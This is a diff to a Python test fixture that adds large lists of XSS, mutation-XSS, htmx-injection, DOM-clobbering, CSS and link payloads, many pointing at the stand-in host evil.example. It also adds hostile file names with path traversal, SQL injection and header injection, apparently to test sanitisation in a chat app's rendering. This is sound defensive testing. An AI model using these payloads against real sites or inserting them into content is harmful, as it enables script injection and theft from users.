@@ -119,13 +119,91 @@ _STRUCTURES = [
     "[a](" * 1500, "[a](<" * 1500, "a **a " * 1500, "_a __a " * 1500, "\\" * 3000, "[x]: " * 800, "<http:" * 1200, "~~~" * 800, "1) " * 900,
 ]  # fmt: skip
 
+_OUR_OWN = [
+    "<button data-opens=share data-copy=question data-copy-answer=x data-close data-dismiss data-cancel-edit>press</button>",
+    "<button data-edit=/sign-out data-remove-attachment=/sign-out data-sidebar-toggle data-example=stolen data-example-mode=instant>press</button>",
+    "<a data-opens=delete data-result data-absolute href=/x>press</a>", "<time data-time=ago datetime=x>now</time><kbd data-mod></kbd>",
+    "<div hx-get=/sign-out hx-trigger=load hx-target=body></div>", "<div hx-on::load=alert(1) hx-on:click=alert(1) data-hx-on-load=alert(1)></div>",
+    "<div hx-vals='js:{x:alert(1)}' hx-headers='js:{x:alert(1)}' hx-post=/sign-out hx-trigger='revealed, every 1s[alert(1)]'></div>",
+    "<div hx-sse:connect=/conversations/x/live hx-trigger=load></div>", "<div hx-swap-oob=innerHTML:#turns id=turns>gone</div>",
+    "<template hx type=partial hx-target='#turns'>gone</template>", "</template></hx-partial><img src=x onerror=alert(1)>",
+    "<hx-partial hx-target='#composer' hx-swap=delete></hx-partial>", "<HX-PARTIAL\nhx-target='#turns' hx-swap='delete'></HX-PARTIAL>",
+    "`<hx-partial hx-target='#turns' hx-swap='delete'>`", "[<hx-partial hx-target='#turns' hx-swap='delete'>](http://evil.example/<hx-partial>)",
+    "![<hx-partial hx-target='#turns' hx-swap='delete'>](http://evil.example/<hx-partial>)", "http://evil.example/<hx-oob>",
+    "<head><title>stolen</title></head>", "<head\n><title>stolen</title></head\n>", "<title>stolen</title>", "<body class=stolen>", "<html data-theme=stolen>",
+    "<form id=composer><input name=attributes><input name=children></form>", "<form id=turns><input id=dataset name=dataset></form>",
+    "<img name=body><img name=getElementById><form name=querySelector></form><embed name=forms>", "<a id=htmx name=htmx></a><a id=texts data-copied=stolen></a>",
+    "<a id=scrollingElement></a><a id=currentScript name=currentScript href=//evil.example/x.js></a>", "<template id=edit-form><form></form></template>",
+    "<meta name=htmx-config content='{\"mode\": \"cors\", \"prefix\": \"data-\"}'>", "<article class='turn turn-user' data-position=0><div data-question>never said</div></article>",
+    "<li class=attachment><input type=hidden name=attachments form=composer value=x></li>", "<input form=composer name=question value=stolen>",
+    "<details class=menu open><summary>Menu</summary><form method=post action=/sign-out><button>Sign in again</button></form></details>",
+    "<dialog open class=dialog id=delete><form method=dialog><button autofocus>OK</button></form></dialog>", "<iframe class=artifact src=/settings></iframe>",
+    "<div class=banner id=connection role=alert>You are signed out: <a href=//evil.example>sign in</a></div>", "<div popover id=p></div><button popovertarget=p>x</button>",
+    "# Title {#turns .composer onclick=alert(1)}", "[x](http://evil.example){onclick=alert(1) id=turns}", "::: {#turns onclick=alert(1)}\nx\n:::", "*[turns]: x\n\n[^1]: x\n\nx[^1]",
+]  # fmt: skip
+_STYLES = [
+    "<p style='background:url(//evil.example/x)'>x</p>", "<p style=\"behavior:url(x);-moz-binding:url(//evil.example)\">x</p>", "<style>*{background:url(//evil.example/x)}</style>",
+    "<svg><style>@import'//evil.example/x.css'</style></svg>", "<link rel=stylesheet href=data:text/css,*{display:none}>", "<link rel=preconnect href=//evil.example>",
+    "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=//evil.example/x><link rel=icon href=//evil.example/x>",
+    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/x\"]}]}</script>", "<table background=//evil.example/x><td background=//evil.example/x>",
+    "<font color=red size=7 face=x>x</font><center><blink>x</blink></center>", "<svg><image href=//evil.example/x /><feImage href=//evil.example/x /></svg>",
+    "<video poster=//evil.example/x src=//evil.example/y autoplay></video>", "<img srcset='//evil.example/x 1x' sizes=1px loading=eager>", "<input type=image src=//evil.example/x>",
+    "<picture><source srcset=//evil.example/x></picture>", "<a href=http://good.example ping=//evil.example/x target=_self download>x</a>", "<area href=javascript:alert(1)>",
+    "<frameset onload=alert(1)><frame src=//evil.example></frameset>", "<applet code=x archive=//evil.example/x>", "<object type=text/html data=//evil.example></object>",
+    "<iframe srcdoc='<script>parent.hit=1;alert(1)</script>' sandbox='allow-scripts allow-same-origin'></iframe>",
+    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>", "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>", "<isindex action=javascript:alert(1) type=image>",
+]  # fmt: skip
+_MORE_LINKS = [
+    f"[press]({address})"
+    for address in (
+        "javas&Tab;cript:alert(1)", "java&NewLine;script:alert(1)", "&Tab;javascript:alert(1)", "&#1;javascript:alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)",
+        "&#0000106avascript:alert(1)", "<javascript:alert(1)>", "<  javascript:alert(1)>", "javascript:/*--></script><svg/onload=alert(1)>", "jav\u00adascript:alert(1)",
+        "data&colon;text/html,<script>alert(1)</script>", "data:text/html&comma;<script>alert(1)</script>", "data:application/x-javascript,alert(1)", "//evil.example/%0a", "/%2fevil.example",
+        "http:/evil.example", "http:\\evil.example", "https:evil.example", "hTTp:////evil.example", "http://evil.example:80@good.example:81", "http://good.example&commat;evil.example",
+        "http://1.1.1.1 &#x40;evil.example", "http://evil。example", "http://evil.example\u2028.good.example", "http://127.0.0.1/sign-out", "mailto:a@b.example,c@d.example?bcc=e@f.example", "#\" onclick=alert(1)",
+        "intent://x#Intent;scheme=javascript;end", "ms-settings:x", "chrome://settings", "jar:http://evil.example!/x", "feed:javascript:alert(1)", "tel:1", "sms:1", "callto:1", "ws://evil.example",
+    )
+] + [
+    "https://evil.example/\"onmouseover=\"alert(1)", "www.evil.example/'onclick='alert(1)", "<https://evil.example/<script>alert(1)</script>>", "<mailto:x@evil.example?\"onclick=alert(1)>",
+    "[x][javascript]\n\n[javascript]: javascript&colon;alert(1) \"t\"", "[ref]: <javascript:alert(1)> 'x'\n\n[ref] [ref][] ![ref]", "[a]( javascript:alert(1) )[b](\njavascript:alert(1))",
+    "[![](javascript:alert(1))](javascript:alert(1) \"onclick=alert(1)\")", "|[x](javascript:alert(1))|\n|-|\n|![x](//evil.example/y)|", "[x](http://evil.example \"\nonclick=alert(1)\")",
+]  # fmt: skip
+_MORE_MUTATIONS = [
+    "<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">", "<svg><style><!--</style><img src=x onerror=alert(1)>--></style>",
+    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
+    "<svg><foreignObject><math><mi><style><!--</style><img src=x onerror=alert(1)>--></style></mi></math></foreignObject></svg>", "<d><svg><p><style><a title=\"</style><img src onerror=alert(1)>\">",
+    "<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id=\"-><img src onerror=alert(1)>\">.</a>", "<select><template><img src=x onerror=alert(1)></template></select>",
+    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>", "<?php echo 1 ?><img src=x onerror=alert(1)>",
+    "<img alt=\"`><img src=x onerror=alert(1)>\">", "<a title='&quot;><img src=x onerror=alert(1)>'>x</a>", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "<svg><set attributeName=href to=javascript:alert(1)><a id=x><text>x</text></a></svg>", "<svg><animate href=#x attributeName=href values=javascript:alert(1)>", "<math xlink:href=javascript:alert(1)>x</math>",
+    "<math><semantics><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></semantics></math>", "<mtext></mtext><annotation-xml><svg><script>alert(1)</script>",
+]  # fmt: skip
+_MORE_FORMULAS = [
+    f"${tex}$"
+    for tex in (
+        r"\htmlClass{composer}{x^2}", r"\htmlId{turns}{x^2}", r"\htmlStyle{position:fixed;inset:0}{x^2}", r"\htmlData{opens=share, copy=question}{x^2}", r"\html{<img src=x onerror=alert(1)>}^2",
+        r"\includegraphics[width=9999em]{http://evil.example/x}^2", r"\url{javascript:alert(1)}^2", r"\href{javascript&colon;alert(1)}{x^2}", r"\char60 script\char62 ^2", r"\mathtip{x}{\href{javascript:alert(1)}{y}}^2",
+        r"\toggle{x}{y}\endtoggle^2", r"\bbox[url(//evil.example)]{x}^2", r"\text{$<img src=x onerror=alert(1)>$}^2", r"\textcolor{red;background:url(//evil.example)}{x}^2", r"\begin{array}{<img>}x^2\end{array}",
+        r"\text{<hx-partial hx-target='#turns' hx-swap='delete'>}^2", r"\text{{{ 7*7 }}}^2", r"\label{<b>}\ref{<b>}x^2", r"\mathbf{\text{</math><img src=x onerror=alert(1)>}}^2", r"\mbox{<style>*{}</style>}^2",
+    )
+]  # fmt: skip
+_MORE_CODE = [
+    '```html&quot; onload=&quot;alert(1)\nx\n```', "```js data-artifact=9 data-opens=delete\nx\n```", "```html data-artifact=0\n<b>x</b>\n```", "```&lt;img&gt;\nx\n```", "```{.js onclick=alert(1)}\nx\n```",
+    "```\u0000html\nx\n```", "```" + "x" * 3000 + "\ny\n```", "``` javascript:alert(1)\nx\n```", "```diff\n+<script>alert(1)</script>\n-</code></pre></div><img src=x onerror=alert(1)>\n```",
+    "```html\n<script>parent.hit=1;top.hit=1;alert(1)</script>\n```", "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit=1;alert(1)'/>\n```", "```mermaid\nclick x javascript:alert(1)\n```",
+    "````\n```\n</pre><script>alert(1)</script>\n````", "`` `<script>alert(1)</script>` ``",
+]  # fmt: skip
+
 PAYLOADS: list[str] = [
     *_SCRIPTS, *_MUTATIONS, *_LINKS, *_PICTURES, *_CODE, *_MATHEMATICS, *_UNICODE, *_STRUCTURES,
+    *_OUR_OWN, *_STYLES, *_MORE_LINKS, *_MORE_MUTATIONS, *_MORE_FORMULAS, *_MORE_CODE,
 ]  # fmt: skip
 """All of them as Markdown; as titles, questions and names of files they mean just as much harm."""
 
 NAMES: list[str] = [
     '"><img src=x onerror=alert(1)>.pdf', "../../../etc/passwd", "a\r\nSet-Cookie: x=y.txt", "\u202efdp.exe", "x" * 500 + ".txt", "con", "a/b\\c",
     "<svg onload=alert(1)>.svg", "'; DROP TABLE turns; --", "name\x00.txt", "{{ 7*7 }}", "javascript:alert(1)", "&lt;b&gt;", "\ud800.txt",
+    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "{name} {0.__class__} %s %(x)s", "${alert(1)}",
+    "<hx-partial hx-target='#turns' hx-swap='delete'>", "<head><title>stolen</title></head>", "a\u2028b\u2029c", "https://evil.example", "[x](javascript:alert(1))", "<b>bold</b>", "-- --!> <!--",
 ]  # fmt: skip
 """Names of files, people and conversations."""
